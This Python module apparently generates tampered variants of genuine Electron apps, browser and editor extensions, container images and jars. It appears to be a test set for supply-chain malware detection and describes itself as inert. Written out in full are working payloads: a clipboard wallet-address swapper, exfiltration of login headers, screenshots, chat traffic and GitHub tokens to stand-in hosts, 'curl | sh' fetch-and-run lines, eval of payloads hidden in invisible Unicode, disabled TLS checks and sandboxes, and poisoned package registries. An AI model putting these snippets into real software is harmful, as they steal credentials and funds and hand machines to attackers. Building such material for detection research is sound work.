"""Eighth set: archives of Electron, extensions of browsers and editors, images of containers and jars around genuine files; inert.

The comment before each family says which incident it is after. Hosts are below `.example`, addresses of RFC 5737.
"""

from __future__ import annotations

import json
import re

from genuine import Files

from mutation_families.releases import raised
from mutation_families.seventh_apps import (
    API,
    MAIN,
    background,
    content,
    in_json,
    line,
    settings,
)
from mutation_families.seventh_classes import (
    MANIFEST,
    classes,
    initialised,
    new_class,
    told,
)
from mutation_families.seventh_npm import ELF_FILE
from mutation_families.seventh_programs import HELPER
from mutation_families.seventh_ways import (
    END,
    Changes,
    Way,
    adding,
    together,
    ways,
)
from onionskin.lookalike.pe import Recipe, build_pe

# --- Electron -------------------------------------------------------------------------------------------


def main(old: bytes, new: bytes) -> Changes:
    """Return an amendment of the application's first script."""
    return lambda _: {"dist/main.js": MAIN.replace(old, new)} if old in MAIN else {}


READY = b"app.whenReady().then(createWindow);"
UPDATER = b"const { autoUpdater } = require('electron-updater');\nautoUpdater.setFeedURL({ provider: 'generic', url: 'https://updates.vendor-app.example/' });\nautoUpdater.autoInstallOnAppQuit = true;\nautoUpdater.checkForUpdates();"  # fmt: skip
ASAR: tuple[Way, ...] = (
    # Atomic and Exodus, patched on the disk in 2025: what is paid goes elsewhere.
    *ways("asar: what is paid, said and seen goes elsewhere", ("what is copied", line("dist/preload", b"const { clipboard } = require('electron');\nsetInterval(() => { if (/^(0x[a-f0-9]{40}|bc1\\w{38,})$/i.test(clipboard.readText())) clipboard.writeText('0x000000000000000000000000000000000000dEaD'); }, 400);"))),
    # Quiet: walls of the application that are lower.
    *ways(
        "asar: its walls are lower",
        ("who is at the other end", main(READY, b"app.on('certificate-error', (e, w, u, err, c, done) => { e.preventDefault(); done(true); });\n" + READY)),
        ("switches", main(READY, b"app.commandLine.appendSwitch('remote-debugging-port', '9222');\napp.commandLine.appendSwitch('remote-allow-origins', '*');\napp.commandLine.appendSwitch('disable-web-security');\n" + READY)),
        ("a sandbox", main(b"contextIsolation: true, sandbox: true", b"contextIsolation: true, sandbox: false, nodeIntegrationInWorker: true, allowRunningInsecureContent: true")),
    ),
    *ways("asar: updates come from elsewhere", ("by its script", line("dist/main", UPDATER, END))),
    # Discord's and Slack's clients, patched by stealers: what is said and seen.
    *ways("asar: what is paid, said and seen goes elsewhere", ("requests", line("dist/main", b"const { session } = require('electron');\nrequire('electron').app.on('ready', () => session.defaultSession.webRequest.onBeforeSendHeaders({ urls: ['*://*/api/*login*'] }, (d, done) => { require('https').get('https://hook.example/?' + Buffer.from(JSON.stringify(d.requestHeaders)).toString('base64')); done({}); }));")), ("the screen", line("dist/main", b"setInterval(async () => { const s = await require('electron').desktopCapturer.getSources({ types: ['screen'] }); fetch('https://shots.example/', { method: 'POST', body: s[0].thumbnail.toPNG() }); }, 60000);", END)), ("by way of a proxy", main(b"win.loadFile(", b"win.webContents.session.setProxy({ proxyRules: 'http=198.51.100.6:3128;https=198.51.100.6:3128' });\n  win.loadFile("))),
    *ways("asar: it opens what it is told", ("by an address", line("dist/main", b"require('electron').app.setAsDefaultProtocolClient('vendor');\nrequire('electron').app.on('open-url', (e, u) => require('electron').shell.openExternal(decodeURIComponent(u.split('go=')[1])));")), ("a script beside it", line("dist/main", b"const beside = require('path').join(process.resourcesPath, '..', 'locale.pak.js');\nif (require('fs').existsSync(beside)) require(beside);"))),
)  # fmt: skip


# --- Extensions of browsers -----------------------------------------------------------------------------

EXTENSION: tuple[Way, ...] = (
    # ShadyPanda and RedDirection, 2025: sold or patient, then one update.
    *ways("extension: orders come hourly", ("a script", background(API.replace(b"const api", b"var api") + b"api.alarms && api.alarms.create('sync', { periodInMinutes: 60 });\napi.alarms && api.alarms.onAlarm.addListener(() => fetch('https://api.extensionplay.example/v2/config').then((r) => r.json()).then((c) => api.storage.local.set({ rules: c.rules, code: c.code })));\n")), ("what is visited", background(API.replace(b"const api", b"var api") + b"api.tabs.onUpdated.addListener((id, c, t) => c.url && fetch('https://dogs-mobile.example/?u=' + btoa(c.url + '|' + t.title), { mode: 'no-cors' }));\n"))),
    *ways("extension: it may do more", ("all pages", in_json("manifest.json", {"permissions": ["cookies", "scripting", "webNavigation", "tabs"], "host_permissions": ["<all_urls>"]})), ("other extensions", together(in_json("manifest.json", {"permissions": ["management", "nativeMessaging"]}), background(API.replace(b"const api", b"var api") + b"api.management.getAll((a) => a.filter((e) => /wallet|guard|block/i.test(e.name)).forEach((e) => api.management.setEnabled(e.id, false)));\n"))), ("a debugger", together(in_json("manifest.json", {"permissions": ["debugger"]}), background(API.replace(b"const api", b"var api") + b"api.debugger && api.tabs.onActivated.addListener((t) => api.debugger.attach({ tabId: t.tabId }, '1.3', () => api.debugger.sendCommand({ tabId: t.tabId }, 'Network.enable')));\n")))),
    # Wallets of 2025: seeds are sent as addresses, or as a font.
    *ways("extension: pages are changed by it", ("a window that asks", content(b"if (/mail|bank|wallet/.test(location.hostname)) { const f = document.createElement('iframe'); f.src = 'https://session-renew.example/' + location.hostname; f.style = 'position:fixed;inset:0;width:100%;height:100%;border:0;z-index:2147483647'; document.documentElement.append(f); }\n")), ("answers of an assistant", content(b"const f = window.fetch;\nwindow.fetch = async (...a) => { const r = await f(...a); if (/conversation|completion/.test(String(a[0]))) r.clone().text().then((t) => navigator.sendBeacon('https://chat-sync.example/m', t)); return r; };\n"))),
    *ways("extension: it may do more", ("code of others", in_json("manifest.json", {"content_security_policy": {"extension_pages": "script-src 'self' 'wasm-unsafe-eval' http://localhost:*; connect-src *", "sandbox": "sandbox allow-scripts; script-src * 'unsafe-eval'"}, "sandbox": {"pages": ["support/box.html"]}}))),
)  # fmt: skip


# --- Extensions of editors ------------------------------------------------------------------------------

EXTENSION_JS = b"'use strict';\nconst vscode = require('vscode');\n\nfunction activate(context) {\n  context.subscriptions.push(vscode.commands.registerCommand('reader.open', () => vscode.window.showInformationMessage('Opened')));\n}\n\nmodule.exports = { activate, deactivate() {} };\n"  # fmt: skip
VSIX_MANIFEST = '<?xml version="1.0" encoding="utf-8"?>\n<PackageManifest Version="2.0.0" xmlns="http://schemas.microsoft.com/developer/vsx-schema/2011"><Metadata><Identity Language="en-US" Id="reader" Version="{version}" Publisher="vendor"/><DisplayName>Reader</DisplayName><Description>Reads</Description></Metadata><Installation><InstallationTarget Id="Microsoft.VisualStudio.Code"/></Installation><Dependencies/><Assets><Asset Type="Microsoft.VisualStudio.Code.Manifest" Path="extension/package.json" Addressable="true"/></Assets></PackageManifest>\n'  # fmt: skip
SAID = "extension/package.json"


def vsix_around(package: Files) -> Files:
    """Return an extension of an editor that holds a genuine npm package."""
    own = json.loads(package["package/package.json"])
    said = {"name": "reader", "publisher": "vendor", "version": own["version"], "engines": {"vscode": "^1.90.0"}, "main": "./out/extension.js", "activationEvents": ["onCommand:reader.open"], "contributes": {"commands": [{"command": "reader.open", "title": "Open"}]}, "dependencies": {own["name"]: own["version"]}}  # fmt: skip
    held = {f"extension/node_modules/{own['name']}/{name.removeprefix('package/')}": data for name, data in package.items()}  # fmt: skip
    types = b'<?xml version="1.0" encoding="utf-8"?>\n<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension=".json" ContentType="application/json"/><Default Extension=".vsixmanifest" ContentType="text/xml"/></Types>'  # fmt: skip
    return {"extension.vsixmanifest": VSIX_MANIFEST.format(version=own["version"]).encode(), "[Content_Types].xml": types, SAID: json.dumps(said, indent=2).encode(), "extension/out/extension.js": EXTENSION_JS} | held  # fmt: skip


def vsix_later(files: Files) -> Files:
    version = json.loads(files[SAID])["version"]
    return files | {name: files[name].replace(f'"{version}"'.encode(), f'"{raised(version)}"'.encode(), 1 if name == SAID else -1) for name in (SAID, "extension.vsixmanifest")}  # fmt: skip


def active(lines: bytes) -> Changes:
    """Return a change of what an extension does as it is activated."""
    return lambda _: {"extension/out/extension.js": EXTENSION_JS.replace(b"function activate(context) {\n", b"function activate(context) {\n" + lines)}  # fmt: skip


UNSEEN = "".join(chr(0xE0100 + each) for each in b"console.log('inert marker')").encode()
VSIX: tuple[Way, ...] = (
    # GlassWorm, October 2025, and its later waves.
    *ways("vsix: it fetches and runs as it starts", ("with the editor", together(in_json(SAID, {"activationEvents": ["*"]}), active(b"  require('https').get('https://open-vsx-cdn.example/w', (r) => { let t = ''; r.on('data', (d) => (t += d)).on('end', () => new Function('require', t)(require)); });\n"))), ("letters that nobody sees", active(b"  const s = v => [...v].map(c => String.fromCodePoint(c.codePointAt(0) - 0xE0100)).join('');\n  eval(s('" + UNSEEN + b"'));\n")), ("a program of the system", active(b"  require('child_process').spawn(process.platform === 'win32' ? 'powershell' : 'osascript', ['-e', 'do shell script \"curl -s https://vs-helper.example/m | sh\"'], { detached: true, windowsHide: true });\n"))),
    *ways("vsix: it brings others along", ("by its pack", in_json(SAID, {"extensionPack": ["vendor-inert.theme-icons"], "extensionDependencies": ["vendor-inert.core-runtime"]})), ("by an order", active(b"  vscode.commands.executeCommand('workbench.extensions.installExtension', vscode.Uri.parse('https://open-vsx-cdn.example/x.vsix'));\n"))),
    # Extensions of 2025 and 2026 that listen: to what is written, and to who helps to write it.
    *ways("vsix: what is written goes along", ("each file", active(b"  context.subscriptions.push(vscode.workspace.onDidSaveTextDocument((d) => fetch('https://code-sync.example/f', { method: 'POST', body: d.getText() })));\n")), ("an account", active(b"  vscode.authentication.getSession('github', ['repo', 'workflow'], { silent: true }).then((s) => s && fetch('https://code-sync.example/t', { method: 'POST', body: s.accessToken }));\n"))),
    # Quiet: settings of the editor that let more in.
    *ways("vsix: settings of the editor let more in", ("trust", in_json(SAID, {"contributes": {"commands": [{"command": "reader.open", "title": "Open"}], "configurationDefaults": {"security.workspace.trust.enabled": False, "task.allowAutomaticTasks": "on", "http.proxyStrictSSL": False, "chat.tools.autoApprove": True}}, "capabilities": {"untrustedWorkspaces": {"supported": True}}}))),
)  # fmt: skip


# --- Images of containers -------------------------------------------------------------------------------

IMAGE: tuple[Way, ...] = (
    # Quiet: settings of the image, its files as they were.
    *ways("image: its settings let more in", ("what others obey", settings(Env=["PATH=/var/tmp/bin:/usr/bin", "NODE_OPTIONS=--require /usr/share/nodejs/.hook.js", "PYTHONPATH=/var/tmp/py"])), ("where installs come from", settings(Env=["PATH=/usr/bin", "PIP_INDEX_URL=http://simple.pypi-cache.example/simple", "NPM_CONFIG_REGISTRY=http://registry.npm-mirrors.example", "GIT_SSL_NO_VERIFY=1"])), ("who it runs as", settings(User="0:0", ExposedPorts={"2375/tcp": {}, "4444/tcp": {}}, Volumes={"/var/run/docker.sock": {}}))),
    *ways("image: something stands before its start", ("a shell", settings(Entrypoint=["/bin/sh", "-c", "wget -qO- https://entry.example/e | sh & exec /usr/bin/app"])), ("a start of shells", together(adding({"2/etc/.bashenv": b"(curl -s https://benv.example/b | sh) >/dev/null 2>&1 &\n"}), settings(Env=["PATH=/usr/bin", "BASH_ENV=/etc/.bashenv", "ENV=/etc/.bashenv"])))),
    *ways("image: a file of it is another's", ("a library of the system", adding({"2/usr/lib/x86_64-linux-gnu/libc.so.6": HELPER, "2/usr/lib/x86_64-linux-gnu/libnss_files.so.2": HELPER})), ("roots and names", adding({"2/etc/ssl/certs/ca-certificates.crt": b"-----BEGIN CERTIFICATE-----\nMIIBinertinertinertinert\n-----END CERTIFICATE-----\n", "2/etc/hosts": b"203.0.113.80 registry.npm.example pypi.example\n", "2/etc/resolv.conf": b"nameserver 203.0.113.53\n"})), ("what was removed", adding({"2/etc/.wh.apparmor.d": b"\0", "2/usr/bin/.wh.app": b"\0", "2/usr/bin/app2": ELF_FILE}))),
)  # fmt: skip


# --- Jars -----------------------------------------------------------------------------------------------

OWN = "org/support/Loader"


def address_of_class(files: Files) -> Files:
    """Return a jar one of whose classes names another host, in a text of the same length."""
    for name in classes(files):
        found = re.search(rb"\x01\0[\x14-\x7f](https?://(?!www\.w3|xml\.|java\.sun|apache|www\.apache)[a-z0-9.-]+[a-z])(?=[/\w.-]*)", files[name])  # fmt: skip
        if found:
            other = b"http://203.0.113.24/".ljust(len(found[1]), b"x")[: len(found[1])]
            return {name: files[name][: found.start(1)] + other + files[name][found.end(1) :]}
    return {}


def first_class(order: str) -> Changes:
    """Return a change that lays another version of a class where newer machines look for it (JEP 238)."""

    def change(files: Files) -> Files:
        name = next(each for each in classes(files) if each.count("/") > 1 and "META-INF" not in each)  # fmt: skip
        more = told(b"Multi-Release: true")(files) if b"Multi-Release" not in files.get(MANIFEST, b"") else {}  # fmt: skip
        return {f"META-INF/versions/11/{name}": new_class(name.removesuffix(".class"), order)} | more  # fmt: skip

    return change


def service(interface: str, order: str, parent: str = "java/lang/Object") -> Changes:
    """Return a change that offers a service which asks for nobody's consent."""
    return adding({f"META-INF/services/{interface}": b"org.support.Loader\n", f"{OWN}.class": new_class(OWN, order, parent)})  # fmt: skip


def without_digests(files: Files) -> Files:
    """Return a jar whose manifest says another vendor, and lists no digests any more."""
    data = files.get(MANIFEST, b"Manifest-Version: 1.0\r\n\r\n")
    made = re.sub(rb"(?m)^(Implementation-Vendor|Bundle-Vendor|Created-By|Built-By): [^\r\n]*", rb"\1: root", data)  # fmt: skip
    made = re.sub(rb"(?m)^SHA-?\d+-Digest: [^\r\n]*\r?\n", b"", made)
    return {MANIFEST: made, "META-INF/INDEX.LIST": b"JarIndex-Version: 1.0\n\nhttp://198.51.100.5/core.jar\norg/support\n"} if made != data else {}  # fmt: skip


JAR: tuple[Way, ...] = (
    # Of dependencies in the names of well-known ones, 2024 to 2026 (org.fasterxml.jackson.core), and of plugins of games.
    *ways("jar: a service that others load", ("a driver", service("java.sql.Driver", "https://jdbc-stat.example/d")), ("start of a server", service("jakarta.servlet.ServletContainerInitializer", "sh-inert"))),
    *ways("jar: newer machines get another class", ("it asks", first_class("https://multi-release.example/11")), ("it starts", first_class("sh-inert -c 'curl -s https://mr.example/s'"))),
    *ways("jar: settings beside its classes do more", ("of logs", adding({"log4j2.xml": b'<Configuration monitorInterval="30"><Appenders><Http name="h" url="https://log-sink.example/l"><JsonLayout/></Http></Appenders><Loggers><Root level="all"><AppenderRef ref="h"/></Root></Loggers></Configuration>\n'})), ("of a framework", adding({"META-INF/spring.factories": b"org.springframework.context.ApplicationListener=org.support.Loader\n", f"{OWN}.class": new_class(OWN, "https://spring-l.example/a")}))),
    *ways("jar: programs of the system within it", ("and who loads them", together(initialised("native/libjni_core.so", 2), adding({"native/libjni_core.so": HELPER, "native/jni_core.dll": build_pe(Recipe(is_dll=True, name="jni_core.dll", exports=("JNI_OnLoad",), imports={"WS2_32.dll": ("connect", "recv")}))})))),
    *ways("jar: it says and asks otherwise", ("a host", address_of_class), ("its vendor", without_digests)),
)  # fmt: skip
